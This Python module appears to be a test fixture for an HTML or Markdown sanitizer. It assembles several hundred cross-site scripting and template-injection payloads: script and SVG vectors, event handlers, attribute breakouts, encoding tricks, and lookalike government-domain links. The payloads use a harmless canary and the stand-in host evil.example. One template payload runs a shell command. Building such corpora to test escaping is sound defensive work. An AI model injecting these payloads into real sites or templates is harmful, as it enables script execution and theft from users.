# ruff: noqa: E501 (each is one text)
"""Three hundred texts that are programs where a page forgets to escape them.

Each sets `window.__xss`, asks a foreign host, or changes what the page is made of.
"""

CANARY = "window.__xss=1"
EVIL = "//evil.example"
BASE64 = "PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=="

SCRIPTS = [
    "<script>{x}</script>", "<SCRIPT>{x}</SCRIPT>", "<ScRiPt >{x}</sCrIpT >", "<script/a>{x}</script>",
    "<script>{x}//", "<<script>{x}//<</script>", "<scr<script>ipt>{x}</scr</script>ipt>",
    "<script src={evil}/x.js></script>", "<script type=module>{x}</script>", "<script defer>{x}</script>",
    "<script\t>{x}</script\t>", "<script charset=utf-7>{x}</script>", "</script><script>{x}</script>",
    "<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>", "<noscript><script>{x}</script></noscript>",
    "<script>`${{{x}}}`</script>", "<script>{x}<!--", "<xmp><script>{x}</script></xmp>",
    "<plaintext><script>{x}</script>", "<template><script>{x}</script></template>",
]  # fmt: skip
VECTORS = [
    "<svg onload={x}>", "<svg/onload={x}>", "<svg><script>{x}</script></svg>",
    "<svg><script href=data:,{x} />", "<svg><animate onbegin={x} attributeName=x dur=1s>",
    "<svg><set onbegin={x} attributeName=x>", "<svg><a href=javascript:{x}><text y=9>a</text></a>",
    "<svg><a xlink:href='javascript:{x}'><circle r=9 /></a></svg>", "<svg><style>{{}}*{{x:expression({x})}}",
    "<svg><use href='data:image/svg+xml;base64,{b64}#x' />", "<svg><image href={evil}/x.svg>",
    "<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>", "<svg><title><img src=x onerror={x}>",
    "<svg><desc><script>{x}</script></desc></svg>", "<math href=javascript:{x}>a</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={x}>", "<math><mi xlink:href=javascript:{x}>a",
    "<svg><![CDATA[><script>{x}</script>]]></svg>", "<svg><animate href=#x values=javascript:{x} />",
    "<svg id=x onunload={x}>",
]  # fmt: skip
TAGS = [
    "<img src=x onerror={x}>", "<img/src=x/onerror={x}>", "<IMG SRC=x ONERROR={x}>", "<img src=x:x onerror={x}//",
    "<img src='x' onerror=\"{x}\">", "<img src=`x`onerror={x}>", "<img srcset={evil}/x.png>",
    "<img src={evil}/x.png>", "<img src=javascript:{x}>", "<img lowsrc=javascript:{x}>", "<img src onerror={x} ",
    "<image src=x onerror={x}>", "<picture><source srcset=x><img onerror={x}></picture>",
    "<video src=x onerror={x}>", "<video><source onerror={x}></video>", "<video poster={evil}/x.png>",
    "<audio src=x onerror={x}>", "<audio autoplay src={evil}/x.mp3>", "<track src={evil} onload={x}>",
    "<body onload={x}>", "<body onpageshow={x}>", "<body background={evil}/x.png>", "<frameset onload={x}>",
    "<input autofocus onfocus={x}>", "<select autofocus onfocus={x}>", "<textarea autofocus onfocus={x}>",
    "<input type=image src=x onerror={x}>", "<input type=hidden onfocus={x} autofocus>",
    "<keygen autofocus onfocus={x}>", "<details open ontoggle={x}>", "<dialog open onclose={x}>",
    "<marquee onstart={x}>", "<object data=javascript:{x}>", "<object data={evil}/x.swf>",
    "<embed src=javascript:{x}>", "<embed src={evil}/x.svg>", "<iframe src=javascript:{x}>",
    "<iframe src={evil}>", "<iframe srcdoc='<script>{x}</script>'>", "<iframe onload={x}>",
    "<frame src=javascript:{x}>", "<applet code=javascript:{x}>", "<portal src={evil}>",
    "<form action=javascript:{x}><button>a</button></form>", "<button formaction=javascript:{x}>a",
    "<form><input type=submit formaction={evil} value=a></form>", "<isindex action=javascript:{x} type=image>",
    "<link rel=stylesheet href={evil}/x.css>", "<link rel=import href={evil}>", "<link rel=preload href={evil} as=script>",
    "<base href={evil}/>", "<meta http-equiv=refresh content='0;url=javascript:{x}'>",
    "<meta http-equiv=refresh content='0;url={evil}'>", "<meta http-equiv=set-cookie content='toso-in=x'>",
    "<style>@import '{evil}/x.css';</style>", "<style>*{{background:url({evil})}}</style>",
    "<style onload={x}></style>", "<div style='background:url({evil})'>a</div>",
    "<div style=width:expression({x})>a</div>", "<div style=-moz-binding:url({evil})>a</div>",
    "<p style='position:fixed;inset:0;z-index:9'>a</p>", "<table background=javascript:{x}>",
    "<a href=javascript:{x}>a</a>", "<a href=' javascript:{x}'>a</a>", "<a href=jav&#x09;ascript:{x}>a</a>",
    "<a href='java\tscript:{x}'>a</a>", "<a href=&#106;avascript:{x}>a</a>", "<a href=JaVaScRiPt:{x}>a</a>",
    "<a href=vbscript:{x}>a</a>", "<a href='data:text/html;base64,{b64}'>a</a>", "<a href={evil}>a</a>",
    "<a ping={evil} href=#>a</a>", "<area href=javascript:{x}>", "<x onclick={x} style=display:block>a</x>",
    "<custom-tag onmouseenter={x}>a</custom-tag>", "<p contenteditable onblur={x}>a</p>",
    "<b id=token>a</b>", "<form id=x><input name=token></form>", "<a name=token href=x>a</a>",
]  # fmt: skip
ENDS = [
    "\" onmouseover={x} x=\"", "' onmouseover={x} x='", "` onmouseover={x} x=`", "\" autofocus onfocus={x} \"",
    "' autofocus onfocus={x} '", "\"><svg onload={x}>", "'><svg onload={x}>", "\"/><img src=x onerror={x}>",
    "\" style=\"background:url({evil})", "\" href=\"javascript:{x}", "x\" accesskey=x onclick={x} \"",
    "</textarea><script>{x}</script>", "</title><script>{x}</script>", "</style><script>{x}</script>",
    "</noscript><img src=x onerror={x}>", "</xmp><img src=x onerror={x}>", "</template><img src=x onerror={x}>",
    "</option></select><img src=x onerror={x}>", "</form><form action={evil}>", "</p></div></main><script>{x}</script>",
    "</svg><script>{x}</script>", "</head><body onload={x}>", "</a><a href=javascript:{x}>a", "</code></pre><script>{x}</script>",
    "--><script>{x}</script>", "<!--><img src=x onerror={x}>-->", "<!-- --!><img src=x onerror={x}>",
    "<!--[if IE]><script>{x}</script><![endif]-->", "<![CDATA[<script>{x}</script>]]>", "]]><script>{x}</script>",
    "<?xml version='1.0'?><script>{x}</script>", "<?php echo 1 ?>", "<!doctype html><script>{x}</script>",
    "<% {x} %>", "\\\"><script>{x}</script>", "\\';{x}//", "\";{x}//", "';{x}//", "`;{x}//", "*/{x}/*",
]  # fmt: skip
TEMPLATES = [
    "{{{{7*7}}}}", "{{{{ 7*'7' }}}}", "{{% print(7*7) %}}", "{{{{config}}}}", "{{{{self}}}}", "{{# a #}}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{{{cycler.__init__.__globals__.os.popen('id').read()}}}}",
    "{{{{request.application.__globals__}}}}", "{{{{visit.cookie}}}}", "{{{{token}}}}", "{{{{ x|safe }}}}",
    "{{% include 'page.html' %}}", "{{% raw %}}", "{{{{constructor.constructor('{x}')()}}}}", "${{{x}}}", "#{{7*7}}",
    "<%= 7*7 %>", "%(x)s", "%s%s%n", "{{title}}", "{{0.__class__}}", "@(7*7)", "[[${{7*7}}]]", "{{{{=<% %>=}}}}",
]  # fmt: skip
MARKDOWN = [
    "[a](javascript:{x})", "[a](JaVaScRiPt:{x})", "[a](vbscript:{x})", "[a](data:text/html;base64,{b64})",
    "[a]({evil})", "[a](https:{evil} \"onclick={x}\")", "[a](https:{evil}\"onmouseover={x})", "![a]({evil}/x.png)",
    "![a](x\"onerror=\"{x})", "![a\"onerror=\"{x}](x)", "<javascript:{x}>", "<https:{evil}>", "https:{evil}",
    "[a](&#106;avascript:{x})", "[a](java%0ascript:{x})", "[a](\\u006aavascript:{x})", "[a](<javascript:{x}>)",
    "[a][b] [b]: javascript:{x}", "**<b onclick={x}>a</b>**", "`<script>{x}</script>`", "~~<svg onload={x}>~~",
    "> <script>{x}</script>", "# <script>{x}</script>", "- <img src=x onerror={x}>", "1. <img src=x onerror={x}>",
    "||<script>{x}</script>||", "[<img src=x onerror={x}>](https:{evil})", "[a](https://dichvucong.gov.vn.evil.example)",
    "[a](https://dichvucong.gov.vn@evil.example)", "[a](tg://resolve?domain=x)", "\\<script>{x}\\</script>",
    "&lt;script&gt;{x}&lt;/script&gt;", "&#60;script&#62;{x}&#60;/script&#62;", "&#x3c;img src=x onerror={x}&#x3e;",
    "&amp;lt;script&amp;gt;{x}", "&lt;img src=x onerror={x}&gt;", "&quot; onfocus={x} autofocus &quot;", "&NewLine;&Tab;javascript:{x}",
    "<tg-spoiler onclick={x}>a</tg-spoiler>", "<a href=\"javascript:{x}\">a</a>",
]  # fmt: skip
LETTERS = [
    "＜script＞{x}＜/script＞", "‹script›{x}‹/script›", "<ſcript>{x}</ſcript>", "<ſvg onload={x}>", "<imɡ src=x onerror={x}>",
    "\u202e<script>{x}</script>", "\u2066<script>{x}</script>\u2069", "<scr\u200bipt>{x}</scr\u200bipt>",
    "<\u200bscript>{x}</script>", "\ufeff<script>{x}</script>", "<script\u00a0>{x}</script>", "<img\u2028src=x onerror={x}>",
    "<img\x0csrc=x\x0conerror={x}>", "<\u0300script>{x}</script>", "<script>{x}</script>\u0301", "<script\u0338>{x}</script>",
    "%3Cscript%3E{x}%3C/script%3E", "%253Cscript%253E{x}", "+ADw-script+AD4-{x}+ADw-/script+AD4-",
    "\\u003cscript\\u003e{x}\\u003c/script\\u003e", "\\x3cscript\\x3e{x}", "\\074script\\076{x}", "¼script¾{x}¼/script¾",
    "🙂<script>{x}</script>🙂", "đ<img src=x onerror={x}>ễ",
]  # fmt: skip
EVENTS = (  # noqa: SIM905
    "abort animationend animationstart auxclick beforecopy beforecut beforeinput beforepaste blur cancel"
    " canplay change click close contextmenu copy cut dblclick drag dragend dragenter dragover dragstart"
    " drop ended error focus focusin focusout formdata hashchange input invalid keydown keypress keyup load"
    " message mousedown mouseenter mousemove mouseout mouseup mousewheel paste pointerdown pointerenter"
    " pointerover popstate reset resize scroll scrollend search select"
).split()
HANDLERS = [f'<b on{event}="{{x}}" tabindex=1 class=x>a</b>' for event in EVENTS]
KINDS = (SCRIPTS, VECTORS, TAGS, ENDS, TEMPLATES, MARKDOWN, LETTERS, HANDLERS)
PAYLOADS = [text.format(x=CANARY, evil=EVIL, b64=BASE64) for kind in KINDS for text in kind]
